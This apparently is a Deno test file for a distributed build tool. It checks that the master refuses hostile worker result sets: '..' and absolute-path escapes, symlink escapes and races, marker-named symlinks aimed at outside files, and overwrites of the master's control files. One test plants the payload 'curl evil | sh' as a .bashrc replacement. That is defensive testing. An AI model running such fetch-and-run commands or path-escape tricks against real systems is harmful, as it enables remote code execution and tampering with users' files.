/**
 * The real master against a test-double worker that returns hostile result
 * sets: every set is refused whole, the tree is untouched, the worker is set
 * aside and the job still completes (locally) with the right output.
 */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { type JobParams, WorkerMethods } from "../common/protocol.ts";
import type { CallContext } from "../rpc/mod.ts";
import { runScript, withWorkerDouble } from "./_worker_double.ts";

const enc = new TextEncoder();

for (const which of [0, 1, 2]) {
  Deno.test(`master refuses a hostile result set (case ${which}) and runs the job locally`, async () => {
    const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "termite-hostile-" }));
    await Deno.chmod(root, 0o755);
    const outside = await Deno.makeTempDir({ prefix: "termite-hostile-out-" });
    await Deno.symlink(outside, `${root}/link`);
    await Deno.writeTextFile(`${root}/keep.c`, "int keep;\n");
    const payload = enc.encode("pwned");
    const hash = createHash("sha256").update(payload).digest("hex");
    const sets = [
      { path: `${root}/../escaped`, what: ".." },
      { path: "/etc/termite-pwned", what: "absolute outside" },
      { path: `${root}/link/pwned`, what: "symlink escape" },
    ];
    let served = 0;
    const attempts: string[] = [];
    try {
      const result = await withWorkerDouble({
        root,
        handlers: {
          [WorkerMethods.mirrorOpen]: () => ({ slots: 4, workerId: "double" }),
          [WorkerMethods.jobRun]: (params: JobParams) => {
            served++;
            const bad = sets[which];
            attempts.push(`${bad.what}: ${params.argv.join(" ")}`);
            return {
              exitCode: 0,
              resultSet: {
                deletions: [`${root}/keep.c`],
                dirs: [],
                files: [{ path: bad.path, hash, size: payload.length, mode: 0o644, mtimeMs: 0 }],
                symlinks: [],
              },
            };
          },
          [WorkerMethods.blobGet]: async (_p: unknown, ctx: CallContext) => {
            await ctx.sendBytes(payload);
            return { size: payload.length };
          },
        },
      }, async (master, logs) => {
        const result = await runScript(master, "echo built > out.txt; echo done", root);
        assert.ok(logs.some((m) => /Refusing result set/.test(m)), logs.join("\n"));
        return result;
      });
      assert.equal(attempts.length, 1, "the hostile worker was tried once");
      assert.equal(result.code, 0);
      assert.equal(result.out, "done\n", "the job ran locally after the refusal");
      assert.equal(await Deno.readTextFile(`${root}/out.txt`), "built\n");
      assert.equal(
        await Deno.readTextFile(`${root}/keep.c`),
        "int keep;\n",
        "deletion not applied",
      );
      assert.deepEqual([...Deno.readDirSync(outside)], []);
      await assert.rejects(Deno.stat(`${root}/../escaped`), Deno.errors.NotFound);
    } finally {
      await Deno.remove(root, { recursive: true });
      await Deno.remove(outside, { recursive: true });
    }
  });
}

// ---- Issue 11: hostile result sets against the tree, through the real master ----

const EMPTY_SET = { deletions: [], dirs: [], files: [], symlinks: [] };

function sha(bytes: Uint8Array): string {
  return createHash("sha256").update(bytes).digest("hex");
}

async function tempRoot(prefix: string): Promise<string> {
  const root = await Deno.realPath(await Deno.makeTempDir({ prefix }));
  await Deno.chmod(root, 0o755);
  return root;
}

Deno.test("master refuses the $HOME/.bashrc attack: a set linking a to a home and a/.bashrc to its payload", async () => {
  const root = await tempRoot("termite-bashrc-");
  const home = await Deno.realPath(await Deno.makeTempDir({ prefix: "termite-home-" }));
  await Deno.writeTextFile(`${home}/.bashrc`, "# mine\n");
  const payload = enc.encode("curl evil | sh\n");
  try {
    await withWorkerDouble({
      root,
      handlers: {
        [WorkerMethods.mirrorOpen]: () => ({ slots: 4, workerId: "double" }),
        [WorkerMethods.jobRun]: () => ({
          exitCode: 0,
          resultSet: {
            deletions: [],
            dirs: [],
            files: [{
              path: `${root}/payload.sh`,
              hash: sha(payload),
              size: payload.length,
              mode: 0o755,
              mtimeMs: 0,
            }],
            symlinks: [
              { path: `${root}/a`, target: home },
              { path: `${root}/a/.bashrc`, target: `${root}/payload.sh` },
            ],
          },
          inline: { [sha(payload)]: payload },
        }),
      },
    }, async (master, logs) => {
      const result = await runScript(master, "echo done", root);
      assert.equal(result.out, "done\n", "run locally after the refusal");
      assert.ok(
        logs.some((m) => /Refusing result set: .*a\/\.bashrc lies below/.test(m)),
        logs.join("\n"),
      );
    });
    assert.equal((await Deno.lstat(`${home}/.bashrc`)).isFile, true);
    assert.equal(await Deno.readTextFile(`${home}/.bashrc`), "# mine\n");
    await assert.rejects(Deno.lstat(`${root}/a`), Deno.errors.NotFound);
  } finally {
    await Deno.remove(root, { recursive: true });
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("master, two jobs at once: one writes d/x slowly while the other replaces d by a symlink to an outside 0700 dir; nothing lands outside, its mode is kept", async () => {
  const root = await tempRoot("termite-race-");
  const outside = await Deno.realPath(await Deno.makeTempDir({ prefix: "termite-race-out-" }));
  await Deno.mkdir(`${root}/d`);
  await Deno.chmod(`${root}/d`, 0o755);
  const x = enc.encode("\x7fELF written slowly");
  const fetching = Promise.withResolvers<void>();
  const gate = Promise.withResolvers<void>();
  try {
    await withWorkerDouble({
      root,
      handlers: {
        [WorkerMethods.mirrorOpen]: () => ({ slots: 4, workerId: "double" }),
        [WorkerMethods.jobRun]: (params: JobParams) =>
          params.argv[2] === "slow"
            ? {
              exitCode: 0,
              resultSet: {
                deletions: [],
                dirs: [{ path: `${root}/d`, mode: 0o755 }],
                files: [{
                  path: `${root}/d/x`,
                  hash: sha(x),
                  size: x.length,
                  mode: 0o644,
                  mtimeMs: 0,
                }],
                symlinks: [],
              },
            }
            : {
              exitCode: 0,
              resultSet: {
                deletions: [`${root}/d`],
                dirs: [],
                files: [],
                symlinks: [{ path: `${root}/d`, target: outside }],
              },
            },
        [WorkerMethods.blobGet]: async (_p: unknown, ctx: CallContext) => {
          fetching.resolve();
          await gate.promise;
          await ctx.sendBytes(x);
          return { size: x.length };
        },
      },
    }, async (master, logs) => {
      const slow = runScript(master, "slow", root);
      await fetching.promise;
      const swap = await runScript(master, "swap", root);
      assert.equal(swap.code, 0, logs.join("\n"));
      gate.resolve();
      await slow; // refused, then run locally: `slow` is no command (127)
      assert.ok(logs.some((m) => /Refusing result set: .*\/d: /.test(m)), logs.join("\n"));
    });
    assert.deepEqual([...Deno.readDirSync(outside)], []);
    assert.equal((await Deno.stat(outside)).mode! & 0o7777, 0o700);
    assert.equal(await Deno.readLink(`${root}/d`), outside);
  } finally {
    await Deno.remove(root, { recursive: true });
    await Deno.remove(outside, { recursive: true });
  }
});

Deno.test("master: 400 marker-named symlinks to an outside 0600 file, from a result set or planted in the tree, never empty it", async () => {
  const root = await tempRoot("termite-markers-");
  const outside = await Deno.realPath(await Deno.makeTempDir({ prefix: "termite-markers-out-" }));
  const victim = `${outside}/victim`;
  await Deno.writeTextFile(victim, "precious\n");
  await Deno.chmod(victim, 0o600);
  const links = Array.from({ length: 400 }, (_, i) => ({
    path: `${root}/.termite-staging-sync-${i + 1}`,
    target: victim,
  }));
  const double = (sets: unknown[]) => ({
    [WorkerMethods.mirrorOpen]: () => ({ slots: 4, workerId: "double" }),
    [WorkerMethods.jobRun]: () => ({ exitCode: 0, resultSet: sets.shift() ?? EMPTY_SET }),
  });
  try {
    // A result set makes them: refused.
    await withWorkerDouble(
      { root, handlers: double([{ ...EMPTY_SET, symlinks: links }]) },
      async (master, logs) => {
        for (let i = 0; i < 3; i++) await runScript(master, "true", root);
        assert.ok(
          logs.some((m) =>
            /Refusing result set: .*\.termite-staging-sync-\d+.* the master's own/.test(m)
          ),
          logs.join("\n"),
        );
      },
    );
    assert.equal(await Deno.readTextFile(victim), "precious\n");
    // A local job plants them while the master runs: its markers never go through them.
    await withWorkerDouble({ root, handlers: double([]) }, async (master) => {
      for (const l of links) await Deno.symlink(l.target, l.path);
      for (let i = 0; i < 5; i++) await runScript(master, "true", root);
      assert.equal(master.stats.jobsRemote, 5);
    });
    assert.equal(await Deno.readTextFile(victim), "precious\n");
  } finally {
    await Deno.remove(root, { recursive: true });
    await Deno.remove(outside, { recursive: true });
  }
});

Deno.test("master refuses result sets that change its own files: .termite-localrc, .termite-socket, its cache dir in the tree", async () => {
  const root = await tempRoot("termite-control-");
  await Deno.writeTextFile(`${root}/.termite-socket`, "");
  const rc = enc.encode(`[{"regexp": ".", "local": true}]`);
  const file = (path: string) => ({
    path,
    hash: sha(rc),
    size: rc.length,
    mode: 0o644,
    mtimeMs: 0,
  });
  const sets: [string, unknown][] = [
    ["localrc", { ...EMPTY_SET, files: [file(`${root}/.termite-localrc`)] }],
    ["socket", { ...EMPTY_SET, deletions: [`${root}/.termite-socket`] }],
    ["cache", { ...EMPTY_SET, files: [file(`${root}/cache/hashes.json`)] }],
    ["cache parent", { ...EMPTY_SET, deletions: [`${root}/cache`] }],
  ];
  try {
    for (const [name, set] of sets) {
      await withWorkerDouble({
        root,
        handlers: {
          [WorkerMethods.mirrorOpen]: () => ({ slots: 4, workerId: "double" }),
          [WorkerMethods.jobRun]: () => ({
            exitCode: 0,
            resultSet: set,
            inline: { [sha(rc)]: rc },
          }),
        },
        master: { cacheDir: `${root}/cache` },
      }, async (master, logs) => {
        const result = await runScript(master, "echo local", root);
        assert.equal(result.out, "local\n");
        const refusal = logs.find((m) => /Refusing result set/.test(m)) ?? "";
        assert.match(refusal, /the master's own/, `${name}: ${logs.join("\n")}`);
      });
      await assert.rejects(Deno.lstat(`${root}/.termite-localrc`), Deno.errors.NotFound);
      assert.equal((await Deno.lstat(`${root}/.termite-socket`)).isFile, true);
      assert.equal((await Deno.lstat(`${root}/cache`)).isDirectory, true);
    }
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});
